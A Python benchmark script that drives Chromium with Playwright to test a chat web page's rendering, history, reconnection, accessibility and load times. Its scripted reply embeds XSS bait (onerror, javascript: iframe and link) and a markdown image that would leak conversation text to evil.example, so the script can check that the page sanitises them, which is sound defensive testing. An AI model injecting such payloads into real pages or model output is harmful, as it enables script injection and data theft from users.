"""Tries redraft's web page in Chromium, and prints its column of the table in docs/page.md.

    python benchmarks/page.py

A cell is what the script saw. It tried the pages of others with the same reply, too, when the table was made.
"""

from __future__ import annotations

import contextlib
import json
import re
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from importlib.metadata import version
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import httpx
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Error, sync_playwright

SLOW = {"offline": False, "downloadThroughput": 200_000, "uploadThroughput": 200_000, "latency": 150}
QUICK = 15_000  # milliseconds that a page has for what it does
USABLE = "box => !box.disabled && !box.readOnly && box.offsetParent !== null"
REPLY = """<think>Let me see.</think>
| name | mm |
|---|--:|
| rain | 12 |

It costs $5 or $6. Energy is $E = mc^2$, and

$$
\\int_0^1 x\\,dx
$$

```python
def rain(): return 1
```

المطر ماء

<img class="bait" src=x onerror="document.title='owned'"> <b class="bait" onclick="x()">bold</b>
<iframe class="bait" src="javascript:document.title='owned'"></iframe>
[link](javascript:document.title='owned')
![picture](https://evil.example/p.png?what-you-said)
"""


@dataclass
class Page:
    """A page that runs."""

    url: str
    box = "#box"

    def open(self, page: Any) -> None:
        """Go to the page, and wait until it can be used."""
        page.goto(self.url)
        page.locator(self.box).last.wait_for()
        page.wait_for_timeout(1500)

    def ask(self, page: Any, text: str) -> None:
        """Ask something."""
        box = page.locator(self.box).last
        box.click()
        page.keyboard.type(text)
        page.keyboard.press("Enter")


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@contextlib.contextmanager
def serving(folder: Path) -> Iterator[Page]:
    """Serve the page with the scripted reply, after a draft that fails its check."""
    lines = map(json.dumps, ({"settings": {"chunk": 40}}, REPLY.replace("12", "13"), REPLY))
    (folder / "reply.jsonl").write_text("\n".join(lines) + "\n")
    url = f"http://127.0.0.1:{(port := free_port())}/"
    words = ["serve", "--model", "script:reply.jsonl", "--check", "lacks:13", "--max-tokens", "5000"]
    command = [sys.executable, "-m", "redraft", *words, "--port", str(port)]
    with (folder / "log").open("w") as log, subprocess.Popen(command, stderr=log, cwd=folder) as running:
        try:
            for _ in range(600):
                with contextlib.suppress(httpx.HTTPError):
                    if httpx.get(f"{url}ready", timeout=5).status_code < 500:
                        break
                time.sleep(0.5)
            yield Page(url)
        finally:
            running.kill()


def seen(code: str) -> Callable[[Any, Page], bool]:
    """Return a probe that is true if JavaScript in the page gives something true."""
    return lambda page, _: bool(page.evaluate(code))


def history(page: Any, _: Page) -> bool:
    """Return whether a conversation is there after a reload, or is listed."""
    page.reload()
    if shows(page, "It costs"):
        return True
    page.get_by_text("Show it.").first.click(timeout=QUICK)
    return shows(page, "It costs")


def shows(page: Any, text: str) -> bool:
    try:
        page.get_by_text(text).last.wait_for(timeout=QUICK)
    except Error:
        return False
    return True


def edits(page: Any, _: Page) -> bool:
    """Return whether the first of two questions has a button to edit it."""
    for question in page.get_by_text("Show it.").all():
        question.hover(force=True)
        page.wait_for_timeout(500)
        if page.get_by_role("button", name=re.compile("edit", re.IGNORECASE)).count():
            return True
    return False


def changes(page: Any, _: Page) -> bool:
    """Open everything that is folded, and look for what was added and removed."""
    for summary in page.locator("summary").all():
        summary.click(timeout=2000)
    page.wait_for_timeout(500)
    return bool(page.locator("ins, del").count())


def reconnects(page: Any, own: Page) -> bool:
    """Return whether a question that is asked without a network is answered when there is one again."""
    page.unroute_all()
    page.context.set_offline(True)
    before = page.evaluate("document.body.innerText.length")
    own.ask(page, "Still there?")
    page.wait_for_timeout(1500)
    page.context.set_offline(False)
    for _ in range(20):
        page.wait_for_timeout(500)
        if page.evaluate("document.body.innerText.length") > before + 100:
            return True
    return False


TD = "[...document.querySelectorAll('td')].find(each => each.innerText.trim() === '12')"
LEAF = (
    "[...document.querySelectorAll('p, div, span')].findLast(each => each.innerText?.trim() === 'المطر ماء')"
)
BUTTONS = "[...document.querySelectorAll('button')]"
LATE = {
    "the changes of a revision": changes,
    "history": history,
    "an earlier turn can be edited": edits,
    "asks again after the network was away": reconnects,
}
COLOURS = "pre span[class], pre span[style], .cm-line span[class]"
PROBES: dict[str, Callable[[Any, Page], bool]] = {
    "checks that can be edited": seen(f"{BUTTONS}.some(each => /check$/i.test(each.innerText))"),
    "a verdict beside the answer": seen("/[✓✗] (passes|fails)/.test(document.body.innerText)"),
    "tables with their alignment": seen(f"{TD} && /right|end/.test(getComputedStyle({TD}).textAlign)"),
    "formulas": seen("document.querySelector('.katex, math, mjx-container')"),
    "money is no formula": seen("document.body.innerText.includes('$5 or $6')"),
    "code in colours": seen(f"document.querySelector({COLOURS!r})"),
    "a text from right to left": seen(f"{LEAF} && getComputedStyle({LEAF}).direction === 'rtl'"),
    "thinking is folded": seen("!/Let me see/.test(document.body.innerText)"),
    "files can be attached": seen(
        "document.querySelector('input[type=file]')"
        f" || {BUTTONS}.some(each => /attach|upload/i.test(each.ariaLabel))"
    ),
    "no element of an attack": seen("!document.querySelector('.bait') && document.title !== 'owned'"),
}  # fmt: skip


@contextlib.contextmanager
def window(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1280, "height": 850})
    try:
        page = context.new_page()
        page.set_default_timeout(60_000)
        yield page
    finally:
        context.close()


def tried(browser: Any, own: Page) -> dict[str, str]:
    """Return what a page can do, by the names of the rows."""
    found = dict(zip(("kB at the first visit", *TIMES), loads(browser, own), strict=True))
    with window(browser) as page:
        requests: list[str] = []
        page.on("request", lambda request: requests.append(request.url))
        own.open(page)
        page.keyboard.type("Show it.")
        page.keyboard.press("Enter")
        found["keyboard from the first moment"] = said(shows(page, "It costs"))
        if found["keyboard from the first moment"] == "no":
            own.ask(page, "Show it.")
            shows(page, "It costs")
        page.wait_for_timeout(3000)
        found |= {name: said(probe(page, own)) for name, probe in PROBES.items()}
        foreign = {url for url in requests if not url.startswith((own.url, "data:", "blob:"))}
        found["requests to other hosts"] = str(len(foreign))
        found["what axe finds wrong"] = str(len(Axe().run(page).response["violations"]))
        own.ask(page, "And then?")
        page.wait_for_timeout(4000)
        for name, probe in LATE.items():
            found[name] = said(attempted(probe, page, own))
    return found


def attempted(probe: Callable[[Any, Page], bool], page: Any, own: Page) -> bool:
    try:
        return probe(page, own)
    except Error:
        return False


def said(well: object) -> str:
    return "yes" if well else "no"


TIMES = ("s until usable at 1.6 Mbit/s, first visit", "s until usable at 1.6 Mbit/s, later")


def loads(browser: Any, own: Page) -> tuple[str, str, str]:
    """Return the kB of the first visit, and the seconds until the box can be used: at first, and again."""
    with window(browser) as page:
        size, wire = [0.0], page.context.new_cdp_session(page)
        wire.send("Network.enable")
        wire.on("Network.loadingFinished", lambda each: size.append(each["encodedDataLength"]))
        page.goto(own.url)
        page.wait_for_timeout(6000)
    with window(browser) as page:
        wire = page.context.new_cdp_session(page)
        wire.send("Network.enable")
        wire.send("Network.emulateNetworkConditions", SLOW)
        times = []
        for _ in range(2):
            began = time.perf_counter()
            page.goto(own.url, wait_until="commit")
            page.locator(own.box).last.wait_for()
            page.wait_for_function(
                f"({USABLE})([...document.querySelectorAll({json.dumps(own.box)})].at(-1))"
            )
            times.append(f"{time.perf_counter() - began:.1f}")
            page.wait_for_timeout(20_000)  # until all has come: some pages are never idle
    return f"{sum(size) / 1000:,.0f}", times[0], times[1]


def main() -> None:
    with sync_playwright() as playwright, TemporaryDirectory() as folder, serving(Path(folder)) as own:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        print(f"| | redraft {version('redraft')} |\n|---|---|")
        print("\n".join(f"| {row} | {cell} |" for row, cell in tried(browser, own).items()))
        browser.close()


if __name__ == "__main__":
    main()
